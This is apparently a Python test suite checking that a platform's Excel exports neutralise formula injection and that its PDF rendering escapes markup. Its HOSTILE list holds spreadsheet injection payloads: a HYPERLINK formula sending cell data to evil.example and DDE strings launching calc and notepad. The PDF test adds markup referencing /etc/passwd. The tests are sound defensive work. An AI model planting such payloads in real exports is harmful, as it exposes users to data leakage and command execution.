"""What goes out cannot attack its reader (issue 25 point 5): every spreadsheet cell the
platform writes is neutralised by core.sheets, and user text reaches ReportLab escaped."""

from __future__ import annotations

import io
import types

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from yangguang.conformance import excel as conformance_excel
from yangguang.core import sheets
from yangguang.flows.catalogue import render_xlsx
from yangguang.flows.pdf import render_catalogue
from yangguang.flows.selectors import CatalogueRow

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|'/c calc'!A0",
    "+1+cmd|' /C notepad'!'B1'",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=30)


@given(first=st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), rest=TEXT)
def test_a_neutralised_cell_never_starts_a_formula_and_restores(first, rest):
    safe = sheets.cell(first + rest)
    assert safe[0] not in "=+-@\t\r"
    assert sheets.restore(safe) == first + rest


@given(value=st.one_of(st.none(), st.integers(), st.floats(allow_nan=False), st.dates()))
def test_values_that_are_not_text_are_left_as_they_are(value):
    assert sheets.cell(value) == value


def test_lazy_translations_are_cells_of_text():
    from django.utils.translation import gettext_lazy

    assert sheets.cell(gettext_lazy("单位")) == "单位"


def _cells(xlsx: bytes) -> list:
    wb = load_workbook(io.BytesIO(xlsx))  # not read-only: data_type tells a formula
    return [c for ws in wb.worksheets for line in ws.iter_rows() for c in line if c.value]


def test_risk_catalogue_excel_holds_text_not_formulas():
    risk = {
        "step": HOSTILE[0], "description": HOSTILE[1], "grade": "A", "likelihood": "高",
        "impact": "高", "responsible": HOSTILE[2],
        "measures": [{"description": HOSTILE[3], "owner": HOSTILE[4], "status": HOSTILE[5]}],
    }  # fmt: skip
    rows = [CatalogueRow("=某局", "XK1", HOSTILE[6], "行政许可", 1, "A", "", [risk])]
    cells = _cells(render_xlsx(rows))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert not [t for t in texts if isinstance(t, str) and t[0] in "=+-@\t\r"]
    for hostile in HOSTILE[:6]:  # (a carriage return does not survive the XML as it was)
        assert "'" + hostile in texts


def test_conformance_export_holds_text_not_formulas():
    finding = types.SimpleNamespace(
        case_id=HOSTILE[0], kind="wrong_order", activity=HOSTILE[1], event_index=3,
        department=HOSTILE[2], person=HOSTILE[4], detail=HOSTILE[3],
    )  # fmt: skip
    findings = types.SimpleNamespace(iterator=lambda chunk_size: iter([finding]))
    run = types.SimpleNamespace(
        log_name='=HYPERLINK("http://evil.example","log.csv")', process="流程图",
        summary={"cases": 1, "events": 2, "deviations": {"wrong_order": 1}},
    )  # fmt: skip
    cells = _cells(conformance_excel.export(run, findings))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + run.log_name in {c.value for c in cells}


def test_risk_texts_reach_the_pdf_as_text():
    risk = {
        "step": "<b>未闭合", "description": '<img src="/etc/passwd"/> <a href="http://evil.example">点</a>',
        "grade": "A", "likelihood": "高", "impact": "高", "responsible": "</para>&",
        "measures": [{"description": "<font size=90>大</font>", "owner": "<br", "status": "<"}],
    }  # fmt: skip
    rows = [CatalogueRow("<i>某局", "XK1", "许可<", "行政许可", 1, "A", "", [risk])]
    pdf = render_catalogue(rows)  # markup in these texts used to raise (a 500)
    assert pdf.startswith(b"%PDF")
    assert b"/URI" not in pdf and b"/Subtype /Image" not in pdf


def test_pdf_text_escapes_markup_and_keeps_lines():
    assert sheets.pdf_text("<b>a & b</b>\nc") == "&lt;b&gt;a &amp; b&lt;/b&gt;<br/>c"
    assert sheets.pdf_text(None) == ""
